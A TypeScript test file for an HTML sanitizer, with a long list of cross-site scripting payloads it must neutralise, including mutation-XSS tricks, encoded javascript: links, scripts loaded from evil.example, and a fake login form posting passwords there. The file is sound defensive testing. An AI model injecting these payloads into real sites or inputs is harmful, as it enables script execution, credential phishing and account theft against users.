import { markupElements } from '@perya/contract/rules/content/markup';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { cleanMarkup } from './clean-markup.ts';

const clean = (html: string) => cleanMarkup(html).html;

/** What may come out: tags of the list without attributes, links that passed, and words without signs of markup. */
const harmless = new RegExp(
  `^(?:[^<>"]|</?(?:${markupElements.join('|')})>|<a href="(?:https?://|mailto:|tel:|/(?![/\\\\]))[^<>"\\s\\\\]*">)*$`,
);

/** Each tries to run something, to draw over the page, or to become something else when it is read again. */
const hostile = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script',
  '<script>alert(1)',
  '<style>*{display:none}</style>',
  '<p style="position:fixed;inset:0">over the page</p>',
  '<p onclick="alert(1)" onmouseover=alert(1)>press</p>',
  '<p/onclick=alert(1)>press',
  '<img src=x onerror=alert(1)>',
  '<img src="x" """><script>alert(1)</script>">',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="javascript:alert(1)">',
  '<a href="javascript:alert(1)">here</a>',
  '<a href=" &#14; javascript:alert(1)">here</a>',
  '<a href="jav&#x09;ascript:alert(1)">here</a>',
  '<a href="java&#115;cript&colon;alert(1)">here</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">here</a>',
  '<a href="//evil.example">here</a>',
  '<a href="/\\evil.example">here</a>',
  '<a href="https://ok.example/" target=_blank onclick=alert(1) style=x>here</a>',
  "<a href='https://ok.example/\"><script>alert(1)</script>'>here</a>",
  '<svg><script>alert(1)</script></svg>',
  '<svg/onload=alert(1)>',
  '<svg><style><!--</style><img src=x onerror=alert(1)>--></style></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<title><a title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><svg/onload=alert(1)>"></p></xmp>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '&#60;img src=x onerror=alert(1)&#62;',
  '<base href="https://evil.example/"><meta http-equiv=refresh content="0;url=//evil.example"><link rel=stylesheet href=//evil.example>',
  '<form action=//evil.example><input name=password><button>Log in</button></form>',
  '<p>words\u0000<b\u0000>more</b></p>',
];

describe('cleaning HTML', () => {
  it.each(hostile)('leaves nothing of %j that could run, load or draw [G-136]', (html) => {
    const once = clean(`<p>Before</p>${html}`);
    expect(once).toMatch(harmless);
    expect(once).toContain('<p>Before</p>');
    expect(clean(once)).toBe(once);
  });

  it('keeps what a text is made of [G-136]', () => {
    const text =
      '<h2>Title</h2><p>A <strong>bold</strong>, <em>slanted</em> and <u>marked</u> word.<br>Next</p><ul><li>one<ol><li>two</li></ol></li></ul><blockquote><p>said</p></blockquote><hr><p><a href="https://a.example/?x=1&amp;y=2">away</a> <a href="/docs/faq">FAQ</a></p>';
    expect(cleanMarkup(text)).toEqual({ html: text, leftOut: [] });
  });

  it('keeps the words of what it leaves out, and names it', () => {
    expect(cleanMarkup('<div class="x"><span onclick="y()">a &lt; b</span> &amp; c</div>')).toEqual(
      {
        html: '<p>a &lt; b &amp; c</p>',
        leftOut: ['div', 'class', 'span', 'onclick'],
      },
    );
    expect(cleanMarkup('<script>bad()</script>good').html).toBe('<p>good</p>');
    expect(cleanMarkup('<a href="javascript:x()">words</a>')).toEqual({
      html: '<p>words</p>',
      leftOut: ['href'],
    });
  });

  it('puts in order what stands where it cannot', () => {
    expect(clean('one<p>two<p>three')).toBe('<p>one</p><p>two</p><p>three</p>');
    expect(clean('<li>alone')).toBe('<ul><li>alone</li></ul>');
    expect(clean('<ul>words<li>item</ul>')).toBe('<ul><li>words</li><li>item</li></ul>');
    expect(clean('<b>bold <p>across</b> lines</p>')).toBe(
      '<p><strong>bold </strong></p><p>across</p><p> lines</p>',
    );
    expect(clean('1 < 2 and 3 > 2')).toBe('<p>1 &lt; 2 and 3 &gt; 2</p>');
    expect(clean('<p> </p><ul></ul>')).toBe('');
  });

  it('is not slow where a text is made to be', () => {
    const start = performance.now();
    for (const bite of ['<', '<a ', '<a "', '<ul><li>', '<script>', '<!--', '&#', '<p', '</']) {
      clean(bite.repeat(50_000 / bite.length));
    }
    expect(performance.now() - start).toBeLessThan(5000);
  });

  it('whatever comes in, harmless markup comes out, which stays as it is', () => {
    const bites = fc.constantFrom(
      ...hostile,
      ...['<', '>', '"', "'", '&', '/', '=', ' ', '<p>', '</p>', '<ul>', '<li>', '</ul>', '<b>'],
      ...['<a href=', 'javascript:', '-->', '<!--', '&lt;', '&#x3c;', 'words', '<svg>', '</svg>'],
    );
    const texts = fc.array(fc.oneof(bites, fc.string({ unit: 'grapheme', maxLength: 6 })), {
      maxLength: 12,
    });
    fc.assert(
      fc.property(texts, (parts) => {
        const once = clean(parts.join(''));
        return harmless.test(once) && clean(once) === once;
      }),
      { numRuns: 1000 },
    );
  });
});
